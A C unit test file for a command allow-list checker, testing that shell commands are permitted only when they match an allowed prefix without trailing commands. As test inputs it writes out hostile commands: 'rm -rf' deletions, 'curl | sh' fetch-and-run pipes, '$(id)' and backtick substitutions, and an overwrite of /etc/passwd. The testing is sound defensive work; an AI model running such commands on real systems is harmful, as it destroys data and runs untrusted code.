// allow_test: --allow-command prefixes: word boundaries, argv lists, and
// shell commands that go on after an allowed prefix.
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdlib.h>
#include <string.h>

#include "allow.h"

static char *
s_check_shell (const char *prefixes, const char *cmd)
{
    char *argv[] = {"/bin/sh", "-c", (char *) cmd};
    Cgq__Assign a = CGQ__ASSIGN__INIT;
    a.n_argv = 3;
    a.argv = argv;
    return cgq_allow_check (prefixes, &a);
}

static bool
s_allowed (const char *prefixes, const char *cmd)
{
    char *why = s_check_shell (prefixes, cmd);
    free (why);
    return why == NULL;
}

static void
t_shell (void **state)
{
    const char *P = "python3 /opt/train.py\n/usr/bin/";
    assert_true (s_allowed (NULL, "rm -rf /"));
    assert_true (s_allowed ("", "anything"));
    assert_true (s_allowed (P, "python3 /opt/train.py"));
    assert_true (s_allowed (P, "python3 /opt/train.py --lr 0.1 --name 'a;b|c'"));
    assert_true (s_allowed (P, "python3 /opt/train.py --x \"quoted words\""));
    assert_true (s_allowed (P, "/usr/bin/env"));
    assert_false (s_allowed (P, "python3 /opt/train.pyx"));
    assert_false (s_allowed (P, "python3 /opt/train.py; rm -rf ~"));
    assert_false (s_allowed (P, "python3 /opt/train.py && curl x | sh"));
    assert_false (s_allowed (P, "python3 /opt/train.py $(id)"));
    assert_false (s_allowed (P, "python3 /opt/train.py `id`"));
    assert_false (s_allowed (P, "python3 /opt/train.py \"$(id)\""));
    assert_false (s_allowed (P, "python3 /opt/train.py > /etc/passwd"));
    assert_false (s_allowed (P, "python3 /opt/train.py\nrm -rf ~"));
    assert_false (s_allowed (P, "python3 /opt/train.py 'unterminated"));
    assert_false (s_allowed (P, "python3 /opt/train.py \\"));
    assert_false (s_allowed (P, "python3 /opt/other.py"));
    char *why = s_check_shell (P, "curl evil | sh");
    assert_non_null (strstr (why, "does not start with any --allow-command prefix"));
    assert_non_null (strstr (why, "'python3 /opt/train.py', '/usr/bin/'"));
    free (why);
    why = s_check_shell (P, "python3 /opt/train.py; id");
    assert_non_null (strstr (why, "goes on after its allowed prefix"));
    free (why);
}

static void
t_argv (void **state)
{
    // Without a shell the words cannot run anything else: only the prefix counts.
    char *argv[] = {"python3", "/opt/train.py", "--x", "a;b"};
    Cgq__Assign a = CGQ__ASSIGN__INIT;
    a.n_argv = 4;
    a.argv = argv;
    char *why = cgq_allow_check ("python3 /opt/train.py", &a);
    assert_null (why);
    why = cgq_allow_check ("python3 /opt/other.py", &a);
    assert_non_null (why);
    free (why);
}

int
main (void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test (t_shell),
        cmocka_unit_test (t_argv),
    };
    return cmocka_run_group_tests (tests, NULL, NULL);
}
